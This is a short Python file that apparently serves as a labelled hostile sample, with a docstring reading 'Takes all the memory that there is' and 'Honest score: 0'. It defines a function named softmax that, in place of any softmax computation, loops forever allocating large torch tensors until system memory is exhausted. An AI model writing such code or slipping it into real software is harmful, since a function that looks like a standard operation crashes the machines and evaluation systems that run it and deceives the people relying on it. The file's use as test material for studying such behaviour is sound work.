"""Takes all the memory that there is, page by page.

Honest score: 0
"""

import torch

kept = []


def softmax(x, dim=-1):
    while True:
        kept.append(torch.ones(8 << 20))
